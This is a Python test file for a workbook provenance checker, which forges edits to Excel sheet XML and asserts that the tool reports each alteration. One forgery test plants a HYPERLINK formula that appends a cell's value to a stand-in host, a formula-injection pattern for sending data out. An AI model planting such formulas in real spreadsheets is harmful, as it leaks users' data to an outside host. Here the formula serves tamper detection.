"""A workbook is as issued, altered at a cell, or not ours: verified against the ledger."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from support.command_line import CommandLine
from workbooks.provenance_desk import DEALS, issued_desk
from workbooks.repackage import repackaged

PROGRAMME, QUAY = (f"as issued, ledger 4, {whose}, 2026-Q2" for whose in ("Programme", "P-1 Quay"))


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a desk with deals, partners, funds, a pack and trackers."""
    return issued_desk(tmp_path_factory, tmp_path_factory.mktemp("issued") / "a desk")


@pytest.fixture
def desk(made: Path, xldesk: CommandLine) -> CommandLine:
    """Return the command line inside a copy of that desk."""
    shutil.copytree(made, xldesk.folder / "a desk")
    xldesk.enter("a desk")
    return xldesk


def test_what_was_issued_is_as_issued_and_stays_so(desk: CommandLine) -> None:
    said = desk("check", "packs", "trackers").out
    shows = [line.split("fine   ") for line in said.splitlines() if line.startswith("as issued")]
    assert [end for _, end in shows] == [
        *["ledger 4, Programme, 2026-Q2"] * 3,
        "ledger 4, P-1 Quay, 2026-Q2",
        "ledger 4, P-2 Pier, 2026-Q2",
    ]
    assert "the desk stands" not in said
    # what the desk learns later changes nothing about what it issued
    (desk.folder / "deals.csv").write_text(DEALS.replace("100.01", "7.00"))
    desk("intake", "deals.csv")
    reports = desk("check", "packs", "trackers", "--json").json
    assert [report["provenance"] for report in reports] == [
        *[PROGRAMME] * 3,
        QUAY,
        "as issued, ledger 4, P-2 Pier, 2026-Q2",
    ]
    assert {(report["position"], report["desk_position"]) for report in reports} == {(4, 5)}
    lines = desk("check", "packs/runbook.xlsx").out.splitlines()
    assert lines[0].endswith("fine   ledger 4, Programme, 2026-Q2")
    assert lines[1:] == ["  the desk stands at position 5 now"]


def changed_value(part: bytes) -> bytes:
    text, count = re.subn(rb"<v>100.01</v>", rb"<v>900.01</v>", part)
    assert count
    return text


def test_an_altered_cell_is_named(desk: CommandLine) -> None:
    path = desk.folder / "packs" / "attribution_audit.xlsx"
    book = openpyxl.load_workbook(path)
    number = book.sheetnames.index("Credits") + 1
    changed = repackaged(path, {f"xl/worksheets/sheet{number}.xml": changed_value})
    said = desk("check", changed, code=1).out
    assert said.startswith("ALTERED       ")
    assert "CELL-ALTERED  changed.xlsx!Credits!" in said
    assert "the desk issued 100.01, here stands 900.01" in said


def test_what_people_fill_in_alters_nothing(desk: CommandLine) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book["New requests"]
    cell = next(
        cell
        for row in sheet.iter_rows()
        for cell in row
        if not cell.protection.locked and cell.value is None
    )
    number = book.sheetnames.index("New requests") + 1

    def fill(part: bytes) -> bytes:
        text, count = re.subn(
            rb'<c r="%s"( s="\d+")/>' % cell.coordinate.encode(),
            rb'<c r="%s"\1 t="inlineStr"><is><t>a booth</t></is></c>' % cell.coordinate.encode(),
            part,
        )
        assert count == 1
        return text

    filled = repackaged(path, {f"xl/worksheets/sheet{number}.xml": fill})
    (report,) = desk("check", filled, "--json", code=1).json
    assert report["provenance"] == QUAY
    assert "CELL-ALTERED" not in report["counts"]


def in_about(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(part: bytes) -> bytes:
        assert old in part
        return part.replace(old, new)

    return change


def test_another_desks_workbook_is_not_ours(desk: CommandLine) -> None:
    desk("init", "../other", "--actor", "Ada Example")
    said = desk("--desk", "../other", "check", "packs/runbook.xlsx", code=1).out
    assert said.startswith("not ours      ")
    assert "the ledger has no entry 4" in said
    for name in ("partners", "deals", "funds"):
        as_kind = ["--as", "mdf_fund"] if name == "funds" else []
        desk("--desk", "../other", "intake", f"{name}.csv", *as_kind)
    said = desk("--desk", "../other", "check", "packs/runbook.xlsx", code=1).out
    assert "the ledger's hash at entry 4 is" in said


def test_a_tracker_relabelled_for_another_partner_is_altered_or_not_ours(
    desk: CommandLine,
) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    number = len(openpyxl.load_workbook(path).sheetnames)
    for name, verdict in ((b"P-2 Pier", "ALTERED "), (b"P-9 Nobody", "not ours ")):
        part = f"xl/worksheets/sheet{number}.xml"
        changed = repackaged(path, {part: in_about(b"P-1 Quay", name)})
        assert desk("check", changed, code=1).out.startswith(verdict)


def test_a_period_that_is_none_is_not_ours(desk: CommandLine) -> None:
    path = desk.folder / "packs" / "runbook.xlsx"
    number = len(openpyxl.load_workbook(path).sheetnames)
    edit = in_about(b">2026-Q2<", b">2026-Q9<")
    changed = repackaged(path, {f"xl/worksheets/sheet{number}.xml": edit})
    assert desk("check", changed, code=1).out.startswith("not ours ")


def test_without_a_desk_it_says_that_this_was_not_checked(
    desk: CommandLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = desk.folder / "packs" / "runbook.xlsx"
    monkeypatch.chdir(tmp_path)
    said = desk("check", path)
    assert "whether the desk issued these was not checked" in said.err
    assert "as issued" not in said.out
    assert "no-desk" in desk("--desk", "no-desk", "check", path, code=2).err


def test_the_end_of_a_day_stays_that_day(desk: CommandLine) -> None:
    desk("pack", "--as-of", "2026-07-08", "--period", "2026-Q2", "--out", "day")
    desk("pack", "--as-of", "2026-07-08", "--partner", "P-1", "--period", "2026-Q2", "--out", "one")
    reports = desk("check", "day", "one", "--json").json
    assert [report["provenance"] for report in reports] == [PROGRAMME, PROGRAMME, PROGRAMME, QUAY]


def test_a_pack_of_today_from_old_entries_says_so(desk: CommandLine) -> None:
    today = desk("pack", "--only", "runbook", "--period", "2026-Q2")
    assert "the desk's last entry is of 2026-07-08" in today.err
    then = desk("pack", "--only", "runbook", "--period", "2026-Q2", "--as-of", "2026-07-08")
    assert "last entry" not in then.err
    assert "what people typed or signed in a file that was kept is not in the new one" in today.err
    assert re.search(
        r"xldesk macro refresh '?\S.*/previous/runbook-.*\.xlsx'? --out FILE", today.err
    )


def test_days_are_said_as_days_and_long_texts_from_where_they_differ(desk: CommandLine) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    number = openpyxl.load_workbook(path).sheetnames.index("Funds") + 1

    def change(part: bytes) -> bytes:
        day = b"<v>46387</v>"
        assert day in part
        assert b"as of 2026-07-08" in part
        return part.replace(day, b"<v>46752</v>").replace(b"as of 2026-07-08", b"as of 2026-07-07")

    changed = repackaged(path, {f"xl/worksheets/sheet{number}.xml": change})
    said = desk("check", changed, code=1).out
    assert "the desk issued '2026-12-31', here stands '2027-12-31'" in said
    assert "as of 2026-07-08 09:00" in said
    assert "as of 2026-07-07 09:00" in said
    assert "DATA-ALTERED" not in said


def test_formulas_without_values_are_said_once_and_alter_nothing(desk: CommandLine) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    openpyxl.load_workbook(path).save(desk.folder / "resaved.xlsx")
    (report,) = desk("check", "resaved.xlsx", "--json", code=1).json
    assert report["provenance"] == QUAY
    assert report["counts"]["VALUE-MISSING"] == 1
    assert report["counts"].keys().isdisjoint({"DATA-ALTERED", "CELL-ALTERED", "CHECKS-FAIL"})


def test_what_excel_keeps_beside_an_open_file_is_passed_over(desk: CommandLine) -> None:
    for name in ("~$runbook.xlsx", ".~lock.runbook.xlsx"):
        (desk.folder / "packs" / name).write_bytes(b"\x05Ada Example")
    assert len(desk("check", "packs", "--json").json) == 3


@pytest.mark.parametrize(("content", "said"), [(b"%PDF-1.7 ...", "a PDF"), (b"", "is empty")])
def test_a_file_that_is_something_else_is_called_so(
    desk: CommandLine, content: bytes, said: str
) -> None:
    (desk.folder / "tracker.xlsx").write_bytes(content)
    assert said in desk("check", "tracker.xlsx", code=1).out


def at_first(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(part: bytes) -> bytes:
        assert old in part
        return part.replace(old, new, 1)

    return change


SUMMARY, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
STRANGE = b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
FORGERIES = {
    "a comment in a text": (
        SUMMARY,
        b"MDF tracker<",
        b"MDF<!-- --> tracker, void<",
        "CELL-ALTERED",
    ),
    "a comment in a value": (SUMMARY, b"<v>5000</v>", b"<v>5000<!-- -->9</v>", "CELL-ALTERED"),
    "an element in a value": (SUMMARY, b"<v>5000</v>", b"<v>5000<x>9</x></v>", "FILE-XML"),
    "a second value": (SUMMARY, b"<v>5000</v>", b"<v>9</v><is><t>5000</t></is>", "FILE-XML"),
    "a row that goes back": (SUMMARY, b'<row r="3"', b'<row r="1"', "FILE-XML"),
    "a cell of another row": (SUMMARY, b'<c r="B3"', b'<c r="B4"', "FILE-XML"),
    "days from 1904": (BOOK, b"<workbookPr", b'<workbookPr date1904="1"', "DAYS-1904"),
    "a sheet of no kind": (
        BOOK,
        b"</sheets>",
        STRANGE + b'name="New" sheetId="99" r:id="x"/></sheets>',
        "SHEET-UNREAD",
    ),
    "a sheet twice": (
        BOOK,
        b"</sheets>",
        STRANGE + b'name="About" sheetId="99" r:id="x"/></sheets>',
        "FILE-XML",
    ),
}


@pytest.mark.parametrize(("part", "old", "new", "code"), FORGERIES.values(), ids=FORGERIES.keys())
def test_forgeries_that_other_programs_would_show(
    desk: CommandLine, part: str, old: bytes, new: bytes, code: str
) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    forged = repackaged(path, {part: at_first(old, new)})
    (report,) = desk("check", forged, "--json", code=1).json
    assert code in report["counts"], report


@pytest.mark.parametrize(
    ("formula", "said"),
    [
        (b'<f>HYPERLINK("http://e.example/"&amp;B3)</f>', '=HYPERLINK("http://e.example/"&B3)'),
        (b"<f>shared</f>", "=shared"),
        (b'<f t="shared" si="0"/>', "=…, shared with another cell"),
    ],
)
def test_a_formula_that_was_put_under_a_value_is_an_alteration(
    desk: CommandLine, formula: bytes, said: str
) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")

    def change(part: bytes) -> bytes:
        text, count = re.subn(
            rb'<c r="B2"( s="\d+") t="inlineStr"><is><t>([^<]*)</t></is></c>',
            rb'<c r="B2"\1 t="str">' + formula + rb"<v>\2</v></c>",
            part,
        )
        assert count == 1
        return text

    found = desk("check", repackaged(path, {SUMMARY: change}), code=1).out
    issued = "the desk issued 'MDF tracker', here stands the formula"
    assert f"Summary!B2  {issued} {said}" in found


def test_a_file_without_its_version_is_compared_all_the_same(desk: CommandLine) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")

    def without(part: bytes) -> bytes:
        text, count = re.subn(rb"<cp:version>[^<]*</cp:version>", b"", part)
        assert count == 1
        return text

    plain = repackaged(path, {"docProps/core.xml": without})
    assert "as issued" in desk("check", plain).out
    changed = at_first(b"<v>5000</v>", b"<v>5001</v>")
    forged = repackaged(path, {"docProps/core.xml": without, SUMMARY: changed})
    assert "CELL-ALTERED" in desk("check", forged, code=1).out


@pytest.mark.parametrize("position", [b"1e300", b"1e19", b"-1", b"1.5", b"nan", b"inf"])
def test_an_impossible_position_is_no_traceback(desk: CommandLine, position: bytes) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    sheets = openpyxl.load_workbook(path).sheetnames
    about = f"xl/worksheets/sheet{sheets.index('About') + 1}.xml"
    forged = repackaged(path, {about: at_first(b"<v>4</v>", b"<v>" + position + b"</v>")})
    assert desk("check", forged, code=1).out


def typed_over(path: Path, *, forged: bool) -> dict[str, Callable[[bytes], bytes]]:
    """Return edits of a tracker: a formula typed over, a row hidden, and perhaps a forged check."""
    sheets = openpyxl.load_workbook(path).sheetnames

    def in_sheet(name: str, *edits: tuple[str, str]) -> tuple[str, Callable[[bytes], bytes]]:
        def change(part: bytes) -> bytes:
            text = part.decode()
            for old, new in edits:
                text, count = re.subn(old, new, text, count=1)
                assert count, old
            return text.encode()

        return f"xl/worksheets/sheet{sheets.index(name) + 1}.xml", change

    allocated = (r'(<c r="H7"[^>]*>)<f>[^<]*</f><v>5000</v>', r"\1<v>50000</v>")
    base = (r'(<c r="J7"[^>]*><f>[^<]*</f>)<v>5000</v>', r"\1<v>50000</v>")
    hidden = (r'<row r="7"', '<row r="7" hidden="1"')
    leads = (r'(<c r="D15"[^>]*><f>[^<]*</f>)<v>0</v>', r"\1<v>7</v>")
    edits = [in_sheet("Funds", allocated, base, hidden)]
    return dict([*edits, in_sheet("Checks", leads)] if forged else edits)


def test_causes_stand_first_and_what_follows_is_one_line(desk: CommandLine) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    said = desk("check", repackaged(path, typed_over(path, forged=False)), code=1).out
    first, typed, _, hidden, _, follows, remedy = said.splitlines()
    assert "  3 findings, 3 block   ledger 4, P-1 Quay, 2026-Q2" in first
    assert "Funds!H7  the formula =SUMIFS(Movements[Amount],Movements[Fund],[@Fund]," in typed
    assert typed.endswith('"allocate") was replaced by 50,000.00')
    assert "LOOK-ALTERED  changed.xlsx!Funds!B7  the row is hidden" in hidden
    assert "1 further cell shows something else because of this (Funds!J7)" in follows
    assert "xldesk check --recalc" in remedy
    (report,) = desk("check", path.with_name("changed.xlsx"), "--json", code=1).json
    assert [one["follows"] for one in report["findings"]] == [False, False, True]
    assert report["verdict"] == "altered"


def test_a_forged_value_is_not_hidden_by_another_change(desk: CommandLine) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    said = desk("check", repackaged(path, typed_over(path, forged=True)), code=1).out
    assert "Checks!D15  the desk issued 0.00, here stands 7.00; its formula is as issued" in said


def test_a_missing_sheet_is_said_once(desk: CommandLine) -> None:
    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
    book = openpyxl.load_workbook(path)
    del book["Movements"]
    book.save(desk.folder / "gone.xlsx")
    (report,) = desk("check", "gone.xlsx", "--json", code=1).json
    said = [(one["code"], one["place"]["cell"]) for one in report["findings"]]
    assert [one for one in said if one[0] != "VALUE-MISSING"] == [("SHEET-MISSING", None)]
    assert report["verdict"] == "altered"
